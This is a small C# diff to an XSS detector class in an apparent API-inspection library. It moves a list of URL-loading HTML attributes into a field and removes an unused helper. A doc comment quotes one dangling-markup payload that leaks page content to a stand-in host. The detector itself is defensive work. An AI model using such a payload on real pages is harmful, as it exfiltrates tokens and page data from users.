@@ -1,4 +1,5 @@
 using System.Buffers;
+using static ApiGuard.Inspection.Rules.Spans;
 
 namespace ApiGuard.Inspection.Rules;
 
@@ -86,6 +87,9 @@ internal static class XssDetector
         }
     }
 
+    // Attributes whose value a browser loads as a URL.
+    private static readonly string[] s_urlAttributes = [" src=", " href=", " action=", " background=", " content=", " formaction=", " ping=", " poster="];
+
     /// <summary>
     /// Dangling markup: a tag the browser loads by itself whose URL attribute opens a quote that the value never closes
     /// ('&lt;img src="https://x.example/log?html='). The browser reads the page after the injection point into the URL up to the
@@ -112,7 +116,7 @@ internal static class XssDetector
             return;
         }
 
-        foreach (var attribute in (ReadOnlySpan<string>)[" src=", " href=", " action=", " background=", " content=", " formaction=", " ping=", " poster="])
+        foreach (var attribute in s_urlAttributes)
         {
             var a = tag.IndexOf(attribute, StringComparison.Ordinal);
             if (a < 0 || a + attribute.Length >= tag.Length || tag[a + attribute.Length] is not ('"' or '\''))
@@ -565,8 +569,6 @@ internal static class XssDetector
             return;
         }
     }
-
-    private static ReadOnlySpan<char> Head(ReadOnlySpan<char> s, int n) => s.Length > n ? s[..n] : s;
 
     private static bool IsEventName(ReadOnlySpan<char> n) =>
         n.StartsWith("load") || n.StartsWith("error") || n.StartsWith("mouse") || n.StartsWith("click") || n.StartsWith("focus")
